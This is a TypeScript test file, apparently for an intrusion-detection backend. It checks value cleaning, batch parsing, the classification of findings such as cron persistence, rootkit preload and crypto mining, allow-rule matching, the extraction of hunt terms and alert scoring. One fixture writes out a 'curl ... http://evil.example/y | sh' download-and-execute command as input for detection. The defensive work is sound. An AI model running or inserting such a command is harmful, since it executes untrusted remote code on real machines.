import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Finding } from '../../model/index.ts'
import { factWith } from '../../test/facts.ts'
import { conditionCovers, ruleForIncident, scopeCovers } from './allow-match.ts'
import { typeOfFinding } from './alert-type.ts'
import { readBatch } from './batch.ts'
import { cleanText, cleanValue, shortBytes } from './clean-value.ts'
import { hides } from './gone-alerts.ts'
import { huntTerm, termsOf } from './hunt-terms.ts'
import { trueTime } from './report-context.ts'
import { scoreOf } from './score.ts'

test('clean values hold nothing that PostgreSQL refuses, and are as they were where it refuses nothing', () => {
  fc.assert(
    fc.property(fc.jsonValue({ stringUnit: 'binary' }), value => {
      const clean = cleanValue(value)
      const text = JSON.stringify(clean)
      assert.ok(!text.includes('\\u0000') && text.isWellFormed())
      if (!JSON.stringify(value).includes('__proto__') && !JSON.stringify(value).includes('\\u'))
        assert.deepEqual(clean, value)
    }),
    { numRuns: 50 },
  )
  assert.equal(cleanText('a\0b\ud800'), 'a\\x00b\ufffd')
  assert.deepEqual(Object.keys(cleanValue(JSON.parse('{"__proto__":{"a":1},"b":2}'))), ['b'])
})

test('a text is cut at a character, never above the bytes', () =>
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.nat(40), (text, most) => {
      const cut = shortBytes(text, most)
      assert.ok(Buffer.byteLength(cut) <= most && cut.isWellFormed() && cleanText(text).startsWith(cut))
    }),
  ))

test('any batch: each place once, in order, only above what is stored; nothing throws', () =>
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          fc.anything(),
          fc.record({
            sequence: fc.oneof(fc.integer(), fc.nat(20), fc.double()),
            at: fc.string(),
            report: fc.anything(),
          }),
        ),
      ),
      fc.nat(10),
      (items, above) => {
        const { entries, through } = readBatch(items, above)
        const numbers = entries.map(one => one.sequence)
        assert.deepEqual(
          numbers,
          [...new Set(numbers)].sort((a, b) => a - b),
        )
        assert.ok(numbers.every(one => one > above && one <= through && Number.isSafeInteger(one)))
      },
    ),
  ))

const finding = (fact: Record<string, unknown>, more: Partial<Finding> = {}): Finding => ({
  id: 'f',
  rule: { id: 'r', title: 'R' },
  level: 'high',
  class: 'persistence',
  conclusive: false,
  attack: [],
  families: [],
  because: '',
  fact: { ...factWith(fact), id: 'i' },
  ...more,
})
const plain = { kind: 'file', type: 'file', ownership: 'unowned' }
const cron = { kind: 'autostart', mechanism: 'cron-user', path: '/c', command: 'x', targets: ['/tmp/x'], user: 'root' }

for (const [fact, more, type] of [
  [cron, {}, 'scheduled-task'],
  [{ ...cron, mechanism: 'systemd-unit' }, {}, 'autostart'],
  [{ kind: 'process', path: '/x' }, { specific: 'mining' }, 'mining'],
  [{ kind: 'process', path: '/x' }, {}, 'suspicious-process'],
  [{ kind: 'socket', protocol: 'tcp', address: '198.51.100.7', stratum: 'login' }, {}, 'pool-traffic'],
  [{ kind: 'preload', variable: 'LD_PRELOAD' }, {}, 'rootkit'],
  [{ kind: 'sudo-rule', ownership: 'unowned' }, {}, 'account'],
  [{ kind: 'sysctl' }, {}, 'weakening'],
] as const)
  test(`${fact.kind} of ${JSON.stringify(more)} is ${type}`, () =>
    assert.equal(typeOfFinding(finding(fact, more)), type))

test('all that a condition gives must agree, and one that gives nothing covers nothing', () => {
  const one = finding(cron)
  assert.equal(conditionCovers({}, one), false)
  assert.equal(conditionCovers({ path: '/tmp/x' }, one), true)
  assert.equal(conditionCovers({ path: '/c', rule: 'r', user: 'root' }, one), true)
  assert.equal(conditionCovers({ path: '/c', rule: 'other' }, one), false)
  assert.equal(conditionCovers({ sha256: 'a'.repeat(64) }, one), false)
  const rule = { id: 'a', scope: {}, condition: { path: '/c' }, createdBy: 'ada' }
  const incident = { findings: ['f', 'g'] } as unknown as Parameters<typeof ruleForIncident>[0]
  const other = finding({ kind: 'process', path: '/x' })
  assert.equal(
    ruleForIncident(
      incident,
      new Map([
        ['f', one],
        ['g', other],
      ]),
      [rule],
    ),
    undefined,
  )
  assert.equal(
    ruleForIncident(
      incident,
      new Map([
        ['f', one],
        ['g', one],
      ]),
      [rule],
    ),
    rule,
  )
})

test('a scope without words is everywhere, with words only there', () => {
  const host = { host: 'h', groups: ['g', 'root'], tags: ['db'] }
  for (const [scope, covers] of [
    [{}, true],
    [{ hosts: ['h'] }, true],
    [{ hosts: [] }, false],
    [{ hosts: ['x'], groups: ['root'] }, true],
    [{ tags: ['web'] }, false],
  ] as const)
    assert.equal(scopeCovers(scope as never, host), covers, JSON.stringify(scope))
})

test('terms: named once, in one form, none of this host itself', () => {
  const file = factWith({
    ...plain,
    path: '/tmp/x',
    sha256: 'AB'.repeat(32),
    endpoints: ['Pool.Example:3333', '127.0.0.1:80'],
    evidence: [],
  })
  assert.deepEqual(termsOf([file, file]), [
    { kind: 'path', term: '/tmp/x' },
    { kind: 'hash', term: 'ab'.repeat(32) },
    { kind: 'domain', term: 'pool.example' },
  ])
  const line = factWith({
    ...cron,
    targets: [],
    command: 'curl http://u:p@[2001:DB8::7]:80/x http://evil.example/y | sh',
  })
  assert.deepEqual(
    termsOf([line])
      .slice(2)
      .map(one => `${one.kind} ${one.term}`),
    ['address 2001:db8::7', 'domain evil.example'],
  )
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 5_000 }), text => {
      const one = huntTerm('line', text)
      assert.ok(one === undefined || (Buffer.byteLength(one.term) <= 1_800 && one.term.isWellFormed()))
    }),
  )
})

test('a wallet is the same term, whole in a command, cut in evidence, or typed by a person', () => {
  const wallet = `4${'8AbcdefghijkmnopqrstuvwxyzABCDE'.repeat(4)}`.slice(0, 95)
  const term = wallet.slice(0, 80)
  const walletsIn = (evidence: readonly string[]) =>
    termsOf([factWith({ ...plain, path: '/tmp/x', endpoints: [], evidence })]).filter(one => one.kind === 'wallet')
  for (const evidence of [wallet, term, `-u ${wallet}.rig -p x`, `-u ${wallet}${'A'.repeat(11)} -p x`])
    assert.deepEqual(walletsIn([evidence]), [{ kind: 'wallet', term }], evidence)
  assert.deepEqual(huntTerm('wallet', wallet), { kind: 'wallet', term })
  for (const other of [`${term} `, `${wallet}AAA`, wallet.slice(0, 94), `x${wallet}`, wallet.slice(0, 79)])
    assert.deepEqual(walletsIn([other]), [], other)
})

test('a gap hides what lies there, or the whole kind', () => {
  const fact = factWith({ ...plain, path: '/root/.ssh/x' })
  for (const [gap, expected] of [
    [{ what: 'x', why: '', path: '/root/.ssh' }, true],
    [{ what: 'x', why: '', path: '/root/.ss' }, false],
    [{ what: 'files', why: '' }, true],
    [{ what: 'files', why: '', path: '/home' }, false],
    [{ what: 'sockets', why: '' }, false],
  ] as const)
    assert.equal(hides(gap, fact), expected, JSON.stringify(gap))
})

test('the score goes down with what stands open, never below 0, and says why', () => {
  const clean = { gaps: [], incidents: [] }
  const alert = { about: 'incident', verdict: 'confirmed', level: 4, status: 'open', child: false }
  assert.deepEqual(scoreOf([], clean), { score: 100, reasons: [] })
  assert.deepEqual(scoreOf([alert, { ...alert, about: 'finding', child: true }], clean), {
    score: 40,
    reasons: [{ what: 'confirmed', points: 60, text: '1 confirmed intrusion' }],
  })
  assert.equal(scoreOf([{ ...alert, status: 'ignored' }], clean).score, 100)
  const many = Array.from({ length: 100 }, (_, index) => ({
    ...alert,
    verdict: ['confirmed', 'suspected', 'exposure'][index % 3] ?? '',
  }))
  assert.equal(scoreOf(many, clean).score, 0)
})

test('a time that cannot be true is when it came', () => {
  const now = new Date('2026-11-20T12:00:00Z')
  for (const text of ['', 'yesterday', '+275760-09-13T00:00:00Z', '1970-01-01T00:00:00Z', '2026-11-22T12:00:00Z'])
    assert.equal(trueTime(text, now), now, text)
  assert.equal(trueTime('2026-11-20T11:00:00Z', now).toISOString(), '2026-11-20T11:00:00.000Z')
})
